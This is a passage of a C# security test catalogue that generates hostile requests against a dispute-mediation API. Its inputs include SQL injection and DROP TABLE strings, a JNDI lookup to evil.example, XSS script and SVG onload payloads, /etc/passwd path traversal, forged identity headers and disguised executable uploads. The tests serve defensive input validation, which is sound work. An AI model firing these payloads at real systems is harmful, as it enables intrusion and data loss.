using System.Text;

namespace Mediation.Api.Tests.Hostile;

/// <summary>What kind of hostility a case carries; the README counts cases per category.</summary>
public enum HostileCategory
{
    WrongType,
    MissingField,
    ExtraField,
    HugeString,
    DeepNesting,
    Unicode,
    Injection,
    PathTrick,
    Amount,
    Number,
    Malformed,
    MediaType,
    IdempotencyKey,
    Identity,
    Token,
    ArgumentCount,
    Upload,
}

/// <summary>
/// One hostile request: over REST (<see cref="Method"/>, <see cref="Path"/>, raw body) or a hub call
/// (<see cref="HubMethod"/>, <see cref="Arguments"/>, <see cref="Protocol"/>). Ids are placeholders that the fixture
/// fills in (<see cref="HostileCatalogue.Negotiating"/> …). <see cref="Status"/> is the exact status expected, or null
/// for "some 4xx" (a semantic refusal whose status depends on which rule speaks first).
/// </summary>
public sealed record HostileCase(string Name, HostileCategory Category, string As)
{
    public string? Method { get; init; }
    public string? Path { get; init; }
    public byte[]? Body { get; init; }
    public string? ContentType { get; init; } = "application/json";
    public IReadOnlyList<(string Name, string Value)> Headers { get; init; } = [];
    /// <summary>The caller sends no identity of its own: only <see cref="Headers"/> (a forged token, nothing).</summary>
    public bool Anonymous { get; init; }

    public string? HubMethod { get; init; }
    public object?[]? Arguments { get; init; }
    public string Protocol { get; init; } = "json";
    /// <summary>A hub connection opened with this query ("access_token={token}" …): the connection itself must be refused.</summary>
    public string? HubQuery { get; init; }

    public int? Status { get; init; }
    /// <summary>Words the answer must hold (the field it names), when the case knows them.</summary>
    public string? Mentions { get; init; }
    /// <summary>The kind of bad bearer token (<see cref="BadTokens"/>) sent instead of the caller's own, on REST or the hub's query.</summary>
    public string? BadToken { get; init; }
    /// <summary>Refused by Kestrel before the app runs (a NUL in the request target): a bare status without a body.</summary>
    public bool ByKestrel { get; init; }

    public bool IsHub => HubMethod is not null || HubQuery is not null;
    /// <summary>The hub connection itself (negotiate and WebSocket) with <see cref="BadToken"/> in access_token.</summary>
    public bool IsHubConnection => HubQuery is not null;
    public override string ToString() => Name;
}

/// <summary>
/// The generator: every REST route of src/Api/Apis and src/Api/Evidence and every method of the negotiation hub,
/// each with a request that would be accepted, crossed with a catalogue of mutations of its ids, body fields,
/// headers and arguments. Each mutation is one the service must refuse with a 4xx and without changing anything.
/// </summary>
public static class HostileCatalogue
{
    // Placeholders the fixture replaces with the seeded ids (in paths, bodies and hub arguments).
    public const string Negotiating = "@@ND";    // a dispute in negotiation: the merchant's offer of 50 is open (seq 2)
    public const string InMediation = "@@MD";    // a dispute assigned to the mediator
    public const string Order = "@@NO";          // the negotiating dispute's order (199.00 CNY)
    public const string Consumer = "@@NC";
    public const string Merchant = "@@NM";
    public const string Mediator = "@@MED";
    public const string FreshOrder = "@@FRESH";  // an order id that must still be unknown afterwards
    public const string City = "Suzhou";
    /// <summary>The Idempotency-Key under which the merchant made its offer while seeding (the seeded request's body is <see cref="SeededOfferBody"/>).</summary>
    public const string SeededOfferKey = "seed-offer-1";
    public const string SeededOfferBody = """{"remedy":"PartialRefund","amount":50}""";
    public const string SeededOrderKey = "seed-order-1";

    // Callers: the negotiating dispute's parties, the mediation dispute's consumer, the mediator, ops, a regulator.
    public const string AsConsumer = "consumer", AsMerchant = "merchant", AsMediator = "mediator", AsOps = "ops",
        AsRegulator = "regulator", AsMediationConsumer = "mconsumer";

    private enum Kind { Id, Text, Name, Enum, Amount, Int, Bool, Date, Items }

    private sealed record Field(string Name, Kind Kind, string Valid, bool Required = true, bool Nullable = false);

    /// <summary>A route with a request that would be accepted; <c>{name:value}</c> marks a path slot and its valid value.</summary>
    private sealed record Route(string Name, string As, string Method, string Path, Field[]? Body = null, bool Keyed = false, bool Anonymous = false);

    private static Field Text(string name, string valid = "\"Please look at the photos.\"", bool required = true, bool nullable = false) => new(name, Kind.Text, valid, required, nullable);
    private static Field Enum(string name, string valid) => new(name, Kind.Enum, $"\"{valid}\"");
    private static Field Amount(string name, string valid = "60") => new(name, Kind.Amount, valid);

    private static readonly string Items = """[{"name":"Longjing tea","spec":"250 g tin","quantity":2,"price":99.5}]""";

    private static readonly Route[] Routes =
    [
        new("PushOrder", AsOps, "POST", "/api/orders", [
            new("orderId", Kind.Id, $"\"{FreshOrder}\""), new("consumerId", Kind.Id, $"\"{Consumer}\""), new("merchantId", Kind.Id, $"\"{Merchant}\""),
            new("storeName", Kind.Name, "\"Lakeside Tea House\""), new("city", Kind.Name, "\"Suzhou\""), new("items", Kind.Items, Items),
            Amount("total", "199"), Enum("currency", "CNY"), new("paidAt", Kind.Date, "\"2026-11-20T10:00:00Z\""), new("paymentChannel", Kind.Name, "\"Alipay\"")], Keyed: true),
        new("GetOrder", AsConsumer, "GET", "/api/orders/{order:@@NO}"),
        new("GetLedger", AsConsumer, "GET", "/api/orders/{order:@@NO}/ledger"),
        // The negotiating dispute's order already has its dispute: opening again answers with it (200), so a mutation must be refused before that.
        new("OpenDispute", AsConsumer, "POST", "/api/disputes", [
            new("orderId", Kind.Id, $"\"{Order}\""), Enum("category", "Quality"), Enum("requestedRemedy", "FullRefund"), Amount("claimedAmount", "10"),
            Text("description", "\"Both tins arrived crushed.\"")], Keyed: true),
        new("GetDispute", AsConsumer, "GET", "/api/disputes/{dispute:@@ND}"),
        new("GetDisputeEvents", AsConsumer, "GET", "/api/disputes/{dispute:@@ND}/events?afterSeq={afterSeq:0}&limit={limit:200}"),
        new("SendMessage", AsConsumer, "POST", "/api/disputes/{dispute:@@ND}/messages", [Text("text")], Keyed: true),
        new("MakeOffer", AsConsumer, "POST", "/api/disputes/{dispute:@@ND}/offers", [Enum("remedy", "PartialRefund"), Amount("amount")], Keyed: true),
        new("AcceptOffer", AsConsumer, "POST", "/api/disputes/{dispute:@@ND}/offers/{seq:2}/accept", Keyed: true),
        new("RejectOffer", AsConsumer, "POST", "/api/disputes/{dispute:@@ND}/offers/{seq:2}/reject", Keyed: true),
        new("Withdraw", AsConsumer, "POST", "/api/disputes/{dispute:@@ND}/withdraw", Keyed: true),
        new("Escalate", AsConsumer, "POST", "/api/disputes/{dispute:@@ND}/escalate", Keyed: true),
        new("ConfirmRemedy", AsConsumer, "POST", "/api/disputes/{dispute:@@ND}/confirm", Keyed: true),
        new("RequestEvidence", AsMediator, "POST", "/api/disputes/{dispute:@@MD}/evidence-requests", [
            Enum("of", "merchant"), Text("text", "\"The delivery photos, please.\""), new("dueBy", Kind.Date, "\"2099-01-01T00:00:00Z\"")], Keyed: true),
        new("Propose", AsMediator, "POST", "/api/disputes/{dispute:@@MD}/proposals", [
            Enum("remedy", "PartialRefund"), Amount("amount", "80"), Text("text", "\"Half each.\""), new("returnFirst", Kind.Bool, "false", Required: false)], Keyed: true),
        new("AcceptProposal", AsMediationConsumer, "POST", "/api/disputes/{dispute:@@MD}/proposals/{seq:9}/accept", Keyed: true),
        new("RejectProposal", AsMediationConsumer, "POST", "/api/disputes/{dispute:@@MD}/proposals/{seq:9}/reject", Keyed: true),
        new("Rule", AsMediator, "POST", "/api/disputes/{dispute:@@MD}/ruling", [
            Enum("category", "Quality"), Enum("responsibility", "Merchant"), Enum("remedy", "PartialRefund"), Amount("amount", "80"),
            Text("reasons", "\"The photos show crushed tins.\""), new("returnFirst", Kind.Bool, "false", Required: false)], Keyed: true),
        new("ShipReturn", AsConsumer, "POST", "/api/disputes/{dispute:@@ND}/return-shipment", [
            new("carrier", Kind.Name, "\"SF Express\""), new("trackingNumber", Kind.Id, "\"SF1234567\"")], Keyed: true),
        new("AcknowledgeReturn", AsMerchant, "POST", "/api/disputes/{dispute:@@ND}/return-receipt", [
            Enum("condition", "AsExpected"), Text("note", "\"Received.\"", required: false, nullable: true)], Keyed: true),
        new("GiveFeedback", AsConsumer, "POST", "/api/disputes/{dispute:@@ND}/feedback", [
            new("rating", Kind.Int, "5"), Text("comment", "\"Quick.\"", required: false, nullable: true)], Keyed: true),
        new("GetCaseFile", AsConsumer, "GET", "/api/disputes/{dispute:@@ND}/case-file?format={format:json}"),
        new("AddEvidence", AsConsumer, "POST", "/api/disputes/{dispute:@@ND}/evidence"),
        new("DownloadEvidence", AsConsumer, "GET", "/api/disputes/{dispute:@@ND}/evidence/{evidence:ev-0000000000000000}"),
        new("DownloadEvidenceThumbnail", AsConsumer, "GET", "/api/disputes/{dispute:@@ND}/evidence/{evidence:ev-0000000000000000}/thumbnail"),
        new("ListMerchantDisputes", AsMerchant, "GET", "/api/merchants/{merchant:@@NM}/disputes"),
        new("ListConsumerDisputes", AsConsumer, "GET", "/api/consumers/{consumer:@@NC}/disputes"),
        new("GetMediatorQueue", AsMediator, "GET", "/api/mediators/{mediator:@@MED}/queue"),
        new("SetMediatorAvailability", AsMediator, "PUT", "/api/mediators/{mediator:@@MED}/availability", [new("available", Kind.Bool, "true")]),
        new("SetMerchantProfile", AsOps, "PUT", "/api/merchants/{merchant:@@NM}/profile", [
            new("verified", Kind.Bool, "true"), new("city", Kind.Name, "\"Suzhou\"", Required: false, Nullable: true),
            Text("returnAddress", "\"1 Canal Road, Suzhou\"", required: false, nullable: true)]),
        new("GetMerchantStanding", AsMerchant, "GET", "/api/merchants/{merchant:@@NM}/standing"),
        new("ReportInstructionResult", AsOps, "POST", "/api/instructions/{instruction:ins-@@ND-3}/result", [
            Enum("outcome", "Done"), Text("reason", "\"Refunded.\"", required: false, nullable: true)], Keyed: true),
        new("GetInstruction", AsOps, "GET", "/api/instructions/{instruction:ins-@@ND-3}"),
        // The embedded default's sign-in (anonymous: it answers anyone with a token for whom they pick).
        new("IssueLocalToken", AsConsumer, "POST", "/api/auth/token", [
            new("userId", Kind.Id, $"\"{Consumer}\""), Enum("role", "consumer"), new("merchantId", Kind.Id, "null", Required: false, Nullable: true),
            new("city", Kind.Id, "null", Required: false, Nullable: true)], Anonymous: true),
        new("GetFigures", AsRegulator, "GET", "/api/figures?city={city:Suzhou}&from={from:2026-11-01}&to={to:2026-11-30}&merchantId={merchantId:@@NM}"),
    ];

    // Ids that must never reach a grain key, a SQL statement, a file path or a log line as anything but text.
    private static readonly (string Name, string Value)[] HostileIds =
    [
        ("SQL injection", "' OR '1'='1"),
        ("SQL statement", "1; DROP TABLE disputes;--"),
        ("format placeholder", "{0}"),
        ("JNDI lookup", "${jndi:ldap://evil.example/a}"),
        ("script tag", "<script>alert(1)</script>"),
        ("NUL", "d\0x"),
        ("newline (log forging)", "d\r\nINFO forged"),
        ("65 characters", new string('d', 65)),
        ("10,000 characters", new string('d', 10_000)),
        ("accented letters", "d-\u00e9t\u00e9"),
        ("emoji", "d-\U0001F600"),
        ("right-to-left override", "d\u202Exyz"),
        ("zero-width space", "d\u200Bx"),
    ];

    // Path segments, written as they go on the wire (percent-encoded where a client would encode them).
    private static readonly (string Name, string Value, HostileCategory Category)[] HostileSegments =
    [
        ("encoded dot-dot-slash", "..%2F..%2Fetc%2Fpasswd", HostileCategory.PathTrick),
        ("double-encoded dot-dot", "%252e%252e%252f", HostileCategory.PathTrick),
        ("encoded backslash", "..%5C..%5Cwindows", HostileCategory.PathTrick),
        ("encoded NUL", "d%00x", HostileCategory.PathTrick),
        ("invalid UTF-8", "d%FF%FEx", HostileCategory.Unicode),
        ("overlong UTF-8 slash", "%C0%AF", HostileCategory.Unicode),
        ("encoded quote and braces", "%22%7B0%7D%22", HostileCategory.Injection),
        ("encoded SQL", "%27%20OR%20%271%27%3D%271", HostileCategory.Injection),
        ("encoded script", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", HostileCategory.Injection),
        ("encoded accents", "d-%C3%A9t%C3%A9", HostileCategory.Unicode),
        ("65 characters", new string('d', 65), HostileCategory.HugeString),
        ("4,000 characters", new string('d', 4000), HostileCategory.HugeString),
    ];

    private static readonly (string Name, string Value)[] HostileSeqs =
    [
        ("negative", "-1"), ("past long", "99999999999999999999"), ("a fraction", "1.5"), ("hex", "0x2"), ("with SQL", "2;drop"), ("empty", "%20"),
    ];

    private static readonly string Huge = new('x', 10_000);

    // Built on first use: the tables below are static fields initialised in declaration order.
    private static readonly Lazy<List<HostileCase>> Built = new(Build);
    private static readonly Lazy<Dictionary<string, HostileCase>> Named = new(() => Built.Value.ToDictionary(c => c.Name));

    public static IReadOnlyList<HostileCase> All => Built.Value;

    public static IReadOnlyDictionary<string, HostileCase> ByName => Named.Value;

    private static List<HostileCase> Build()
    {
        var cases = new List<HostileCase>();
        foreach (var route in Routes) cases.AddRange(RouteCases(route));
        cases.AddRange(ReplayCases());
        cases.AddRange(UploadCases());
        cases.AddRange(HubCases());
        var duplicates = cases.GroupBy(c => c.Name).Where(g => g.Count() > 1).Select(g => g.Key).ToList();
        if (duplicates.Count > 0) throw new InvalidOperationException("duplicate case names: " + string.Join(", ", duplicates));
        return cases;
    }

    // ---- REST ----

    private static IEnumerable<HostileCase> RouteCases(Route route)
    {
        var slots = Slots(route.Path);
        var body = route.Body is null ? null : Json(route.Body.Select(f => (f.Name, f.Valid)));
        HostileCase Case(string what, HostileCategory category, string path, string? json, int? status) =>
            new($"{route.Name}: {what}", category, route.As)
            {
                Method = route.Method, Path = path, Body = json is null ? null : Encoding.UTF8.GetBytes(json), Status = status,
                ContentType = json is null ? null : "application/json",
            };
        var validPath = Fill(route.Path, slots, null, null);

        // Path slots: hostile ids and segments in each; seqs that are not whole numbers.
        foreach (var slot in slots)
        {
            if (slot.Name is "seq" or "afterSeq" or "limit")
            {
                foreach (var (name, value) in HostileSeqs)
                    yield return Case($"{slot.Name} {name}", HostileCategory.Number, Fill(route.Path, slots, slot.Name, value), body, null);
                continue;
            }
            if (FreeSlots.TryGetValue(slot.Name, out var values))
            {
                foreach (var (name, value, category) in values)
                    yield return Case($"{slot.Name} {name}", category, Fill(route.Path, slots, slot.Name, Uri.EscapeDataString(value)), body, 400);
                continue;
            }
            // 10,000 characters in a path is Kestrel's 414 before the app sees it; 4,000 is below.
            foreach (var (name, value) in HostileIds.Where(h => h.Value.Length < 5000))
                yield return Case($"{slot.Name} {name}", Category(name), Fill(route.Path, slots, slot.Name, Uri.EscapeDataString(value)), body, null)
                    with { ByKestrel = value.Contains('\0') && InPath(route.Path, slot) };
            foreach (var (name, value, category) in HostileSegments)
                yield return Case($"{slot.Name} {name} in the path", category, Fill(route.Path, slots, slot.Name, value), body, null)
                    with { ByKestrel = value.Contains("%00") && InPath(route.Path, slot) };
        }

        if (route.Body is { } fields)
        {
            foreach (var field in fields)
            {
                string With(string literal) => Json(fields.Select(f => (f.Name, f.Name == field.Name ? literal : f.Valid)));
                if (field.Required)
                    yield return Case($"without {field.Name}", HostileCategory.MissingField, validPath, Json(fields.Where(f => f != field).Select(f => (f.Name, f.Valid))), 400);
                if (!field.Nullable)
                    yield return Case($"{field.Name} null", HostileCategory.WrongType, validPath, With("null"), 400);
                foreach (var (what, literal) in WrongTypes(field.Kind))
                    yield return Case($"{field.Name} {what}", HostileCategory.WrongType, validPath, With(literal), 400);
                foreach (var (what, literal, category, status) in Values(field.Kind))
                    yield return Case($"{field.Name} {what}", category, validPath, With(literal), status);
            }
            var first = fields[0];
            yield return Case("an extra field", HostileCategory.ExtraField, validPath, body![..^1] + ",\"refundTo\":\"attacker\"}", 400)
                with { Mentions = "\"refundTo\" is not a field of this call" };
            yield return Case("an extra $type field", HostileCategory.ExtraField, validPath, "{\"$type\":\"System.IO.FileInfo\"," + body[1..], 400)
                with { Mentions = "\"$type\"" };
            yield return Case("an extra __proto__ field", HostileCategory.ExtraField, validPath, body[..^1] + ",\"__proto__\":{\"admin\":true}}", 400)
                with { Mentions = "\"__proto__\" is not a field of this call" };
            yield return Case($"{first.Name} twice, differing in case", HostileCategory.ExtraField, validPath,
                body[..^1] + $",\"{char.ToUpperInvariant(first.Name[0])}{first.Name[1..]}\":{first.Valid}}}", 400) with { Mentions = "more than once" };
            yield return Case($"{first.Name} nested 5,000 arrays deep", HostileCategory.DeepNesting, validPath,
                Json(fields.Select(f => (f.Name, f == first ? new string('[', 5000) + new string(']', 5000) : f.Valid))), 400);
            yield return Case("an extra field nested 2,000 objects deep", HostileCategory.DeepNesting, validPath,
                body[..^1] + ",\"x\":" + string.Concat(Enumerable.Repeat("{\"a\":", 2000)) + "1" + new string('}', 2000) + "}", 400);
            yield return Case("a body nested 100 objects deep", HostileCategory.DeepNesting, validPath,
                string.Concat(Enumerable.Repeat("{\"a\":", 100)) + body + new string('}', 100), 400);
            yield return Case("a body that is an array", HostileCategory.WrongType, validPath, $"[{body}]", 400);
            yield return Case("a body that is null", HostileCategory.WrongType, validPath, "null", 400);
            yield return Case("a body that is a string", HostileCategory.WrongType, validPath, "\"text\"", 400);
            yield return Case("a truncated body", HostileCategory.Malformed, validPath, body[..(body.Length / 2)], 400);
            yield return Case("a body with a trailing comma", HostileCategory.Malformed, validPath, body[..^1] + ",}", 400);
            yield return Case("a body with a comment", HostileCategory.Malformed, validPath, "/* hi */" + body, 400);
            yield return Case("an empty body", HostileCategory.MissingField, validPath, "", 400);
            yield return Case("a body of 100 KB", HostileCategory.HugeString, validPath, Json(fields.Select(f => (f.Name, f == first ? $"\"{new string('x', 100_000)}\"" : f.Valid))), 413);
            yield return Case("a body with invalid UTF-8", HostileCategory.Unicode, validPath, null, 400) with
            {
                Body = [.. Encoding.UTF8.GetBytes(body[..^1] + ",\"x\":\""), 0xC3, 0x28, 0xFF, .. "\"}"u8.ToArray()],
                ContentType = "application/json",
            };
            yield return Case("as text/plain", HostileCategory.MediaType, validPath, body, 415) with { ContentType = "text/plain" };
            yield return Case("as application/xml", HostileCategory.MediaType, validPath, body, 415) with { ContentType = "application/xml" };
            yield return Case("in UTF-16", HostileCategory.MediaType, validPath, null, 415) with
            {
                Body = Encoding.Unicode.GetBytes(body), ContentType = "application/json; charset=utf-16",
            };
            yield return Case("as a form", HostileCategory.MediaType, validPath, "text=hi", 415) with { ContentType = "application/x-www-form-urlencoded" };
        }

        if (route.Keyed)
        {
            var json = body;
            HostileCase Keyed(string what, params (string, string)[] headers) =>
                Case(what, HostileCategory.IdempotencyKey, validPath, json, 400) with { Headers = headers };
            yield return Keyed("an Idempotency-Key of 256 characters", ("Idempotency-Key", new string('k', 256)));
            yield return Keyed("an empty Idempotency-Key", ("Idempotency-Key", ""));
            yield return Keyed("an Idempotency-Key with DEL", ("Idempotency-Key", "k\u007F1"));
            if (json is null) yield return Case("a JSON body where none is taken, with a bad key", HostileCategory.IdempotencyKey, validPath, "{\"x\":1}", 400)
                with { Headers = [("Idempotency-Key", new string('k', 300))] };
        }

        if (route.Anonymous) yield break;

        // Bearer tokens that must not authenticate the route's own caller.
        foreach (var kind in BadTokens.Kinds.Keys)
            yield return Case($"a bearer token {kind}", HostileCategory.Token, validPath, body, 401) with { Anonymous = true, BadToken = kind };

        // Identity: nobody, a role that is none, an id that is an injection, two roles.
        yield return Case("without an identity", HostileCategory.Identity, validPath, body, 401) with { Anonymous = true };
        yield return Case("with role emperor", HostileCategory.Identity, validPath, body, 401) with
        {
            Anonymous = true, Headers = [("X-User-Id", "c-1"), ("X-Role", "emperor")],
        };
        yield return Case("with a user id that is SQL", HostileCategory.Identity, validPath, body, 401) with
        {
            Anonymous = true, Headers = [("X-User-Id", "' OR 1=1 --"), ("X-Role", "ops")],
        };
        yield return Case("with two roles", HostileCategory.Identity, validPath, body, 401) with
        {
            Anonymous = true, Headers = [("X-User-Id", "c-1"), ("X-Role", "consumer"), ("X-Role", "ops")],
        };
        yield return Case("with Basic credentials", HostileCategory.Token, validPath, body, 401) with
        {
            Anonymous = true, Headers = [("Authorization", "Basic b3BzOm9wcw==")],
        };
        yield return Case("with an empty bearer token", HostileCategory.Token, validPath, body, 401) with
        {
            Anonymous = true, Headers = [("Authorization", "Bearer ")],
        };
    }

    /// <summary>Query values that are free text or dates rather than ids, with what the service must refuse in them.</summary>
    private static readonly Dictionary<string, (string Name, string Value, HostileCategory Category)[]> FreeSlots = new()
    {
        ["city"] = [("of 4,000 characters", new string('c', 4000), HostileCategory.HugeString)],
        ["from"] = [("a word", "yesterday", HostileCategory.WrongType), ("month 13", "2026-13-01", HostileCategory.WrongType),
            ("SQL", "2026-11-01' OR '1'='1", HostileCategory.Injection), ("a format placeholder", "{0}", HostileCategory.Injection),
            ("500 days before to", "2025-07-01", HostileCategory.Number)],
        ["to"] = [("a word", "tomorrow", HostileCategory.WrongType), ("before from", "2026-10-01", HostileCategory.Number),
            ("a script", "<script>alert(1)</script>", HostileCategory.Injection)],
        ["format"] = [("xml", "xml", HostileCategory.WrongType), ("a path", "../../etc/passwd", HostileCategory.PathTrick),
            ("a script", "<script>", HostileCategory.Injection)],
    };

    /// <summary>Replays of the keys used while seeding, with another request: refused (422), the first answer stands.</summary>
    private static IEnumerable<HostileCase> ReplayCases()
    {
        HostileCase Replay(string what, string path, string body, string key, string who) =>
            new(what, HostileCategory.IdempotencyKey, who)
            {
                Method = "POST", Path = path, Body = Encoding.UTF8.GetBytes(body), Status = 422, Headers = [("Idempotency-Key", key)],
            };
        const string offers = "/api/disputes/" + Negotiating + "/offers";
        yield return Replay("MakeOffer: the seeded offer's key with another amount", offers, """{"remedy":"PartialRefund","amount":51}""", SeededOfferKey, AsMerchant);
        yield return Replay("MakeOffer: the seeded offer's key with another remedy", offers, """{"remedy":"Compensation","amount":50}""", SeededOfferKey, AsMerchant);
        yield return Replay("MakeOffer: the seeded offer's key with the body re-spaced", offers, """{ "remedy": "PartialRefund", "amount": 50 }""", SeededOfferKey, AsMerchant);
        yield return Replay("SendMessage: the seeded offer's key on another route", "/api/disputes/" + Negotiating + "/messages", """{"text":"hello"}""", SeededOfferKey, AsMerchant);
        yield return Replay("Withdraw: the seeded order's key on another route", "/api/disputes/" + Negotiating + "/withdraw", "", SeededOrderKey, AsOps) with { ContentType = null, Body = null };
        yield return Replay("PushOrder: the seeded order's key with another order", "/api/orders", PushOrderBody(FreshOrder), SeededOrderKey, AsOps);
    }

    /// <summary>The body of a valid order push for <paramref name="orderId"/> (the seeded order's shape).</summary>
    public static string PushOrderBody(string orderId) =>
        Json(Routes[0].Body!.Select(f => (f.Name, f.Name == "orderId" ? $"\"{orderId}\"" : f.Valid)));

    private static HostileCategory Category(string idName) => idName switch
    {
        "65 characters" or "10,000 characters" => HostileCategory.HugeString,
        "accented letters" or "emoji" or "right-to-left override" or "zero-width space" => HostileCategory.Unicode,
        _ => HostileCategory.Injection,
    };

    private static IEnumerable<(string What, string Literal)> WrongTypes(Kind kind) => kind switch
    {
        Kind.Id or Kind.Text or Kind.Name => [("a number", "5"), ("an object", "{\"text\":\"hi\"}"), ("an array", "[\"hi\"]"), ("true", "true")],
        Kind.Enum => [("a number", "3"), ("an array", "[\"FullRefund\"]"), ("true", "true")],
        Kind.Amount => [("a string", "\"60\""), ("an object", "{\"value\":60}"), ("true", "true"), ("NaN", "\"NaN\"")],
        Kind.Int => [("a string", "\"5\""), ("a fraction", "4.5"), ("true", "true")],
        Kind.Bool => [("a string", "\"true\""), ("a number", "1")],
        Kind.Date => [("a number", "1700000000"), ("an object", "{}"), ("a word", "\"tomorrow\"")],
        Kind.Items => [("an object", "{\"name\":\"a\"}"), ("a string", "\"items\""), ("an array of numbers", "[1,2]")],
        _ => [],
    };

    /// <summary>Values of the right JSON type that the service must still refuse.</summary>
    private static IEnumerable<(string What, string Literal, HostileCategory Category, int? Status)> Values(Kind kind)
    {
        switch (kind)
        {
            case Kind.Text or Kind.Name:
                // Read by the grain, which may refuse for the dispute's state or the caller first: some 4xx.
                yield return ("of 10,000 characters", $"\"{Huge}\"", HostileCategory.HugeString, null);
                yield return ("only zero-width characters", "\"\\u200B\\u200D\\uFEFF\\u2060\"", HostileCategory.Unicode, null);
                yield return ("only NULs", "\"\\u0000\\u0000\"", HostileCategory.Unicode, null);
                yield return ("a lone surrogate", "\"\\uD800\"", HostileCategory.Unicode, 400);
                yield return ("only bidi controls", "\"\\u202E\\u202D\\u2066\"", HostileCategory.Unicode, null);
                break;
            case Kind.Id:
                foreach (var (name, value) in HostileIds)
                    yield return (name, System.Text.Json.JsonSerializer.Serialize(value), Category(name), null);
                break;
            case Kind.Enum:
                yield return ("two names", "\"FullRefund,Repair\"", HostileCategory.Injection, 400);
                yield return ("a name that is none", "\"FreeMoney\"", HostileCategory.Injection, 400);
                yield return ("a name with a zero-width space", "\"Full\\u200BRefund\"", HostileCategory.Unicode, 400);
                yield return ("a name in full-width letters", "\"\uFF26ull\uFF32efund\"", HostileCategory.Unicode, 400);
                yield return ("empty", "\"\"", HostileCategory.Injection, 400);
                break;
            case Kind.Amount:
                yield return ("-1", "-1", HostileCategory.Amount, null);
                yield return ("-0.01", "-0.01", HostileCategory.Amount, null);
                yield return ("with 3 decimals", "1.005", HostileCategory.Amount, null);
                yield return ("1e-7", "1e-7", HostileCategory.Amount, null);
                yield return ("1e30", "1e30", HostileCategory.Amount, 400);
                yield return ("past decimal", "79228162514264337593543950336", HostileCategory.Amount, 400);
                yield return ("10,000,000.01", "10000000.01", HostileCategory.Amount, null);
                yield return ("with 40 digits", "1.0000000000000000000000000000000000000001", HostileCategory.Amount, 400);
                break;
            case Kind.Int:
                yield return ("-1", "-1", HostileCategory.Number, null);
                yield return ("past int", "2147483648", HostileCategory.Number, 400);
                yield return ("1e1", "1e1", HostileCategory.Number, 400);
                break;
            case Kind.Date:
                yield return ("February 30th", "\"2026-02-30T10:00:00Z\"", HostileCategory.WrongType, 400);
                yield return ("empty", "\"\"", HostileCategory.WrongType, 400);
                yield return ("year 10000", "\"10000-01-01T00:00:00Z\"", HostileCategory.WrongType, 400);
                break;
            case Kind.Items:
                yield return ("101 items", "[" + string.Join(",", Enumerable.Repeat("""{"name":"a","spec":null,"quantity":1,"price":1}""", 101)) + "]", HostileCategory.HugeString, 400);
                yield return ("an item without a price", """[{"name":"a","spec":null,"quantity":2}]""", HostileCategory.MissingField, 400);
                yield return ("an item with an extra field", """[{"name":"Longjing tea","spec":"250 g tin","quantity":2,"price":99.5,"discount":99}]""", HostileCategory.ExtraField, 400);
                yield return ("an item with an extra field nested", """[{"name":"Longjing tea","spec":"250 g tin","quantity":2,"price":99.5,"tax":{"rate":1}}]""", HostileCategory.ExtraField, 400);
                yield return ("an item with quantity -2", """[{"name":"Longjing tea","spec":"250 g tin","quantity":-2,"price":-99.5}]""", HostileCategory.Amount, 400);
                break;
        }
    }

    private static bool InPath(string path, Slot slot) => !path.Contains('?') || path.IndexOf(slot.Token, StringComparison.Ordinal) < path.IndexOf('?');

    private sealed record Slot(string Name, string Valid, string Token);

    private static List<Slot> Slots(string path)
    {
        var slots = new List<Slot>();
        for (var start = path.IndexOf('{'); start >= 0; start = path.IndexOf('{', start + 1))
        {
            var end = path.IndexOf('}', start);
            var inner = path[(start + 1)..end];
            var colon = inner.IndexOf(':');
            slots.Add(new Slot(inner[..colon], inner[(colon + 1)..], path[start..(end + 1)]));
        }
        return slots;
    }

    private static string Fill(string path, List<Slot> slots, string? slot, string? value)
    {
        foreach (var s in slots) path = path.Replace(s.Token, s.Name == slot ? value : s.Valid);
        return path;
    }

    private static string Json(IEnumerable<(string Name, string Literal)> fields) =>
        "{" + string.Join(",", fields.Select(f => $"\"{f.Name}\":{f.Literal}")) + "}";

    // ---- Evidence uploads ----

    private static IEnumerable<HostileCase> UploadCases()
    {
        const string path = "/api/disputes/" + Negotiating + "/evidence";
        const string boundary = "hostile-boundary";
        HostileCase Upload(string what, byte[] body, int? status, string? contentType = "multipart/form-data; boundary=" + boundary) =>
            new($"AddEvidence: {what}", HostileCategory.Upload, AsConsumer) { Method = "POST", Path = path, Body = body, ContentType = contentType, Status = status };
        static byte[] Part(string fileName, string contentType, byte[] content) =>
        [
            .. Encoding.ASCII.GetBytes($"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{fileName}\"\r\nContent-Type: {contentType}\r\n\r\n"),
            .. content, .. "\r\n"u8.ToArray(),
        ];
        static byte[] End() => Encoding.ASCII.GetBytes($"--{boundary}--\r\n");
        byte[] exe = [0x4D, 0x5A, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, .. new byte[200]];
        byte[] jpegStart = [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, (byte)'J', (byte)'F', (byte)'I', (byte)'F', 0x00, .. new byte[100]];
        byte[] zip = [(byte)'P', (byte)'K', 0x03, 0x04, .. new byte[100]];
        byte[] svg = Encoding.UTF8.GetBytes("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>\0");
        byte[] html = Encoding.UTF8.GetBytes("<html>\u0001<script>alert(1)</script></html>");

        yield return Upload("an executable named photo.jpg", [.. Part("photo.jpg", "image/jpeg", exe), .. End()], 415);
        yield return Upload("an executable named ../../etc/passwd", [.. Part("../../etc/passwd", "text/plain", exe), .. End()], 415);
        yield return Upload("a file that only starts like a JPEG", [.. Part("crushed.jpg", "image/jpeg", jpegStart), .. End()], 415);
        byte[] pngStart = [0x89, (byte)'P', (byte)'N', (byte)'G', 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, (byte)'I', (byte)'H', (byte)'D', (byte)'R', .. new byte[100]];
        byte[] webpStart = [.. "RIFF"u8.ToArray(), 0x40, 0, 0, 0, .. "WEBPVP8 "u8.ToArray(), .. new byte[100]];
        byte[] jpegHuge = [0xFF, 0xD8, 0xFF, 0xC0, 0x00, 0x11, 0x08, 0xFF, 0xFF, 0xFF, 0xFF, 0x03, 0x01, 0x22, 0x00, 0x02, 0x11, 0x01, 0x03, 0x11, 0x01, 0xFF, 0xD9];
        yield return Upload("a file that only starts like a PNG", [.. Part("crushed.png", "image/png", pngStart), .. End()], 415);
        yield return Upload("a file that only starts like a WebP", [.. Part("crushed.webp", "image/webp", webpStart), .. End()], 415);
